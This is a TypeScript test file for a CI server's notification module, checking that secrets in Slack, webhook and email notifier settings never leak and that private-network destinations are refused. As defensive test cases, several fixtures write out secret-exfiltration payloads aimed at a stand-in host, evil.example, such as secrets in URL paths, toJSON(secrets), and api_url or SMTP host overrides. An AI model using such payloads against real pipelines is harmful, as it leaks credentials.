import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { describe, expect, it, onTestFinished } from 'vitest';
import { runOfRow } from '../../../src/outbox/messages/facts/run-of-row.ts';
import type { NotificationOptions } from '../../../src/outbox/messages/options.ts';
import { createVoices } from '../../../src/outbox/messages/voices/voices.ts';
import { describeOnEach } from '../../support/database.ts';
import { createManualClock } from '../../support/manual-clock.ts';
import { createWorld } from './world.ts';

const SECRETS = {
  HOOK: 'https://hooks.example.org/s3cret-path',
  TOKEN: 'xoxb-s3cret-token',
  SMTP: 'smtps://runs:s3cret-word@mail.example.org',
  PASSWORD: 's3cret-password',
  KEY: `whsec_${Buffer.from('s3cret-s3cret-s3cret-s3cret').toString('base64')}`,
};

/** What the server makes of one notifier of a plan, and what it notes. */
async function voicesOf(notifier: unknown, options: Partial<NotificationOptions> = {}) {
  const notes: string[] = [];
  const voices = createVoices(
    { secrets: SECRETS, ...options },
    { clock: createManualClock(), onNote: (note) => notes.push(note) },
  );
  const run = runOfRow({
    run_id: 'r',
    plan: { name: 'nightly', path: 'plans/nightly.yml' },
    params: { channel: '#ops' },
    ci: { event: 'push', ref: 'refs/heads/main', repository: 'octo/plans' },
    requests: { notifiers: [notifier] },
    started_at: '2026-03-04T02:30:00Z',
  });
  return { voices, run, notes, found: await voices.of(run) };
}

describe('a secret of the server', () => {
  it.each([
    [{ uses: 'slack', with: { webhook: '${{ secrets.HOOK }}' } }, { webhook: SECRETS.HOOK }],
    [{ uses: 'slack', with: { webhook: ' ${{secrets.HOOK}} ' } }, { webhook: SECRETS.HOOK }],
    [
      { uses: 'slack', with: { token: '${{ secrets.TOKEN }}', channel: '${{ params.channel }}' } },
      { token: SECRETS.TOKEN, channel: '#ops' },
    ],
    [
      { uses: 'webhook', with: { url: 'https://a.example/${{ run.id }}', secret: ['${{ secrets.KEY }}'] } },
      { url: 'https://a.example/r', secret: [SECRETS.KEY] },
    ],
    [
      { uses: 'email', with: { smtp: '${{ secrets.SMTP }}', from: 'a@b.c', to: 'ops@example.org' } },
      { smtp: SECRETS.SMTP, from: 'a@b.c', to: 'ops@example.org' },
    ],
  ])('gives access where it belongs: %j', async (notifier, settings) => {
    const { found, notes } = await voicesOf(notifier);
    expect([found[0]?.settings, notes]).toEqual([settings, []]);
  });

  it.each([
    { uses: 'webhook', with: { url: 'https://evil.example/${{ secrets.HOOK }}', secret: '${{ secrets.KEY }}' } },
    { uses: 'webhook', with: { url: '${{ secrets.HOOK }}', secret: '${{ secrets.KEY }}' } },
    { uses: 'slack', with: { webhook: 'https://evil.example/${{ secrets.TOKEN }}' } },
    { uses: 'slack', with: { webhook: "${{ format('https://evil.example/{0}', secrets.TOKEN) }}" } },
    { uses: 'slack', with: { webhook: "${{ secrets['HOOK'] }}" } },
    { uses: 'slack', with: { webhook: 'https://evil.example/${{ toJSON(secrets) }}' } },
    { uses: 'slack', with: { token: '${{ secrets.TOKEN }}', channel: '${{ secrets.PASSWORD }}' } },
    { uses: 'slack', with: { token: '${{ secrets.TOKEN }}', channel: '#a', api_url: 'https://evil.example' } },
    { uses: 'github-issue', with: { token: '${{ secrets.TOKEN }}', api_url: 'https://evil.example' } },
    { uses: 'email', with: { smtp: '${{ secrets.SMTP }}', from: 'a@b.c', to: '${{ secrets.PASSWORD }}@evil.example' } },
    {
      uses: 'email',
      with: {
        smtp: { host: 'evil.example', user: 'x', password: '${{ secrets.PASSWORD }}' },
        from: 'a@b.c',
        to: 'd@e.f',
      },
    },
    { uses: 'slack', with: { webhook: '${{ secrets.UNLISTED }}' } },
    { uses: 'slack', with: { webhook: '${{ secrets.constructor }}' } },
    { uses: 'pager', with: { token: '${{ secrets.TOKEN }}' } },
  ])('goes nowhere else: %j', async (notifier) => {
    const { found, notes, voices, run } = await voicesOf(notifier);
    expect(found).toEqual([]);
    expect(notes).toHaveLength(1);
    expect(JSON.stringify(notes)).not.toContain('s3cret');
    await voices.of(run);
    expect(notes).toHaveLength(1);
  });

  it.each([
    "startsWith(secrets.TOKEN, 'xoxb-s3')",
    'secrets.TOKEN != null',
    'env.HOME != null',
    "contains(toJSON(secrets), 's3cret')",
  ])('is told by no condition: %s', async (condition) => {
    const { voices, run, found } = await voicesOf({
      uses: 'slack',
      if: condition,
      with: { webhook: '${{ secrets.HOOK }}' },
    });
    const [voice] = found;
    expect(voice && (await voices.holds(voice, run))).toBe(false);
  });

  it('goes to a place of the operator’s own where that is named', async () => {
    const api = { token: '${{ secrets.TOKEN }}', channel: '#a', api_url: 'https://slack.internal:8443/api' };
    expect((await voicesOf({ uses: 'slack', with: api }, { allow: ['slack.internal:8443'] })).found).toHaveLength(1);
    expect((await voicesOf({ uses: 'slack', with: api }, { allow: ['slack.internal:443'] })).found).toHaveLength(0);
  });

  it('is for the plans that are named, where any are', async () => {
    const notifier = { uses: 'slack', with: { webhook: '${{ secrets.HOOK }}' } };
    expect((await voicesOf(notifier, { plans: ['other'] })).found).toEqual([]);
    expect((await voicesOf(notifier, { plans: ['plans/nightly.yml'] })).found).toHaveLength(1);
  });

  it('a run whose environment is asked for tells by itself', async () => {
    const notifier = (condition: string) => ({
      uses: 'slack',
      if: condition,
      with: { webhook: '${{ secrets.HOOK }}' },
    });
    const tells = async (condition: string) => {
      const { voices, run } = await voicesOf(notifier(condition));
      return voices.tellsWaiting(run);
    };
    expect(await tells("env.STAGE == 'prod'")).toEqual([]);
    expect(await tells("github.ref == 'refs/heads/main'")).toEqual([0]);
  });
});

describeOnEach('what a plan from anybody makes a server send', (makeDatabase) => {
  it('holds no secret, whatever a task has written, and goes to no private place', async () => {
    const bodies: string[] = [];
    const server = createServer(async (request, response) => {
      let body = JSON.stringify([request.url, request.headers]);
      for await (const chunk of request) body += chunk;
      bodies.push(body);
      response.end();
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    onTestFinished(() => void server.close());
    const url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
    const own = { url: `${url}/mine`, secret: SECRETS.KEY };
    const notifiers = [
      { uses: 'webhook', with: own },
      { uses: 'webhook', with: { ...own, url: `${url}/\${{ secrets.TOKEN }}/\${{ env.HOME }}` } },
      { uses: 'webhook', on: ['approved'], with: { ...own, url: `${url}/home/\${{ env.HOME }}` } },
    ];
    const message = `with ${SECRETS.TOKEN} and ${SECRETS.PASSWORD}`;
    const database = await makeDatabase();
    const open = await createWorld(database, { secrets: SECRETS });
    const { run_id } = await open.register(notifiers);
    const id = await open.wait(run_id, 'gate', {
      message,
      log_excerpt: message,
      outputs_uri: `https://x.example/${SECRETS.TOKEN}`,
    });
    await open.tell();
    await open.decide(id, 'approve', { note: message });
    await open.tell();
    expect(bodies).toHaveLength(2);
    expect(bodies.join()).not.toContain('s3cret');
    expect(bodies.join()).toContain('"/home/"');
    expect((await open.deliveries()).map(({ status }) => status)).toEqual(['delivered', 'delivered']);

    const closed = await createWorld(await makeDatabase(), { secrets: SECRETS, allow: [] });
    const again = await closed.register([{ uses: 'webhook', with: { ...own, allow: ['127.0.0.1'] } }]);
    await closed.wait(again.run_id);
    await closed.tell();
    expect(bodies).toHaveLength(2);
    expect((await closed.deliveries())[0]).toMatchObject({
      status: 'failed',
      note: '127.0.0.1 is in a private network.',
    });
  });

  it('by a mail server is a mail by a checked address', async () => {
    const world = await createWorld(await makeDatabase(), { secrets: { SMTP: 'smtp://localhost:25' }, allow: [] });
    const { run_id } = await world.register([
      { uses: 'email', with: { smtp: '${{ secrets.SMTP }}', from: 'a@b.c', to: 'd@e.f' } },
    ]);
    await world.wait(run_id);
    await world.tell();
    expect((await world.deliveries())[0]).toMatchObject({
      status: 'failed',
      note: 'localhost is in a private network.',
    });
  });
});
